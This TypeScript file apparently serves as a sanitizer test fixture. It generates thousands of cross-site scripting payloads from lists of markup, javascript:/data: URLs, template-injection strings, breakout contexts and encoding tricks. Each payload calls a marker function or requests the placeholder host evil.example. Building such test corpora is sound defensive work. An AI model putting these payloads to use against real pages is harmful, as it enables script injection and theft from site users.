/**
 * Texts that run a script or request an address where a page parses them as markup, code, or a link. Each calls
 * `hit` and names its number. Generated from lists: script × prefix × notation.
 */

/** Runs `CODE` or asks for `EVIL` by itself, once it is markup. */
const MARKUP = [
  '<script>CODE</script>',
  '<script src=EVIL></script>',
  '<img src=x onerror=CODE>',
  '<img src=EVIL>',
  '<img srcset=EVIL>',
  '<image href=x onerror=CODE>',
  '<svg onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><set onbegin=CODE attributeName=x dur=1s>',
  '<svg><image href=EVIL></image></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=CODE>#x"></use></svg>',
  '<math><mtext><img src=x onerror=CODE></mtext></math>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<iframe src="javascript:parent.CODE"></iframe>',
  '<iframe src=EVIL></iframe>',
  '<object data="javascript:CODE"></object>',
  '<object data=EVIL></object>',
  '<embed src=EVIL>',
  '<video src=x onerror=CODE></video>',
  '<video poster=EVIL></video>',
  '<audio src=x onerror=CODE></audio>',
  '<video><source onerror=CODE src=x></video>',
  '<body onload=CODE>',
  '<body background=EVIL>',
  '<details open ontoggle=CODE>x</details>',
  '<input autofocus onfocus=CODE>',
  '<select autofocus onfocus=CODE></select>',
  '<textarea autofocus onfocus=CODE></textarea>',
  '<button autofocus onfocus=CODE>x</button>',
  '<a autofocus tabindex=1 onfocus=CODE>x</a>',
  '<marquee onstart=CODE>x</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=CODE>x</b>',
  '<style>@import url(EVIL);</style>',
  '<b style="background:url(EVIL)">x</b>',
  '<link rel=stylesheet href=EVIL>',
  '<link rel=preload as=image href=EVIL>',
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<base href=EVIL>',
  '<form><button formaction="javascript:CODE" autofocus onfocus=CODE>x</button></form>',
  '<table background=EVIL><tr><td>x</table>',
  '<template shadowrootmode=open><img src=x onerror=CODE></template>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<x-tag onclick=CODE tabindex=1 autofocus onfocus=CODE>x</x-tag>',
  '<b onpointerover=CODE onpointerenter=CODE onfocusin=CODE>x</b>',
];

/** Runs where a page parses it as an address, code, or a template. */
const ADDRESSES = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\tscript:CODE',
  'java\nscript:CODE',
  '\u0001javascript:CODE',
  ' javascript:CODE',
  'javascript&colon;CODE',
  'javascript://example.com/%0aCODE',
  'view-source:javascript:CODE',
  'vbscript:CODE',
  'data:text/html,<script>CODE</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=CODE xmlns="http://www.w3.org/2000/svg"/>',
  'blob:null/CODE',
  '${CODE}',
  '{{constructor.constructor("CODE")()}}',
  '#{CODE}',
  '<%= CODE %>',
  '";CODE;"',
  "';CODE;'",
  '`;CODE;`',
  '\\";CODE;//',
  '\u2028CODE\u2029',
  '*/CODE/*',
  'x onerror=CODE',
];

/** Texts before a payload: ends of the places that a text may be in. */
const CONTEXTS = [
  '',
  '">',
  "'>",
  '`>',
  '--> ',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '\\">',
  '" autofocus onfocus=CODE x="',
];

const entities = (text: string): string =>
  text.replaceAll(/[<>"']/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`);

/** How it is written. */
const WRITINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<\w+/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll(/<(\w+) /g, '<$1/'),
  (text) => text.replaceAll(/<(\w+) /g, '<$1\n\t'),
  (text) => text.replaceAll(/ (on\w+)=/g, ' $1\n='),
  entities,
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll(/[<>"]/g, encodeURIComponent),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '\uff1c'),
];

/** The host that nothing may be asked of. */
const EVIL_HOST = 'evil.example';

/** All payloads: over 7,000. */
const payloads: readonly string[] = [
  ...MARKUP.flatMap((what) =>
    CONTEXTS.flatMap((context) => WRITINGS.map((write) => write(context + what))),
  ),
  ...ADDRESSES.flatMap((what) => WRITINGS.slice(0, 6).map((write) => write(what))),
].map((payload, number) =>
  payload.replaceAll('CODE', `hit(${number})`).replaceAll('EVIL', `//${EVIL_HOST}/${number}`),
);

/** A share of the payloads, from all parts of the list. */
export const somePayloads = (count: number): readonly string[] =>
  count >= payloads.length
    ? payloads
    : Array.from(
        { length: count },
        (_, at) => payloads[Math.floor((at * payloads.length) / count)]!,
      );
